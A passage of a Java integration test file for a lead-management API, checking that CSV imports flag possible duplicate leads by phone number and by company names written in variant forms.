        String existing = support.postJson(mvc, admin, "/api/v1/leads", LeadTestSupport.gradeBLead("查重已有有限公司", "13955550001", support.today().plusDays(30)))
                .get("code").asString();
        String file = HEADER
                + "查重同名有限公司,展会,,,,13955550002,,,\r\n"        // line 2
                + "查重同名有限公司,展会,,,,13955550003,,,\r\n"        // line 3: same company as line 2
                + "查重新公司,展会,,,,13955550001,,,\r\n"              // line 4: the earlier lead's phone
                + "查重无关有限公司,展会,,,,13955550004,,,\r\n";       // line 5: nothing in common
        JsonNode status = importAndWait("duplicates.csv", file.getBytes(StandardCharsets.UTF_8), "VALID_ROWS");
        assertThat(status.get("imported").asInt()).isEqualTo(4);
        assertThat(status.get("duplicates").asInt()).isEqualTo(2);
        String lineTwo = jdbc.sql("select code from lead_lead where phone_normalized like '%13955550002'").query(String.class).single();
        assertThat(status.get("possibleDuplicates").findValues("line").stream().map(JsonNode::asInt).toList())
                .containsExactly(3, 4);
        assertThat(status.get("possibleDuplicates").get(0).get("matches").asString()).contains(lineTwo);
        assertThat(status.get("possibleDuplicates").get(1).get("matches").asString()).contains(existing);
    }

    @Test
    void importedRowsThatWriteAnEarlierLeadsCompanyAnotherWayAreListedAsItsDuplicates() {
        String admin = support.bearer(mvc, "admin");
        String existing = support.postJson(mvc, admin, "/api/v1/leads",
                LeadTestSupport.gradeBLead("查重异名华信科技有限公司", "13955550011", support.today().plusDays(30))).get("code").asString();
        String file = HEADER
                + "查重異名華信科技股份有限公司,展会,,,,13955550012,,,\r\n"     // line 2: traditional, another legal form
                + "查重异名华信软件有限公司,展会,,,,13955550013,,,\r\n"         // line 3: another trade of the brand
                + "\"查重异名华信科技 （有限责任公司）\",展会,,,,13955550014,,,\r\n"; // line 4: spaced, full-width brackets
        JsonNode status = importAndWait("variants.csv", file.getBytes(StandardCharsets.UTF_8), "VALID_ROWS");
        assertThat(status.get("imported").asInt()).isEqualTo(3);
        assertThat(status.get("possibleDuplicates").findValues("line").stream().map(JsonNode::asInt).toList())
                .containsExactly(2, 4);
        assertThat(status.get("possibleDuplicates").get(0).get("matches").asString()).contains(existing);
        assertThat(status.get("possibleDuplicates").get(1).get("matches").asString()).contains(existing);
    }
}
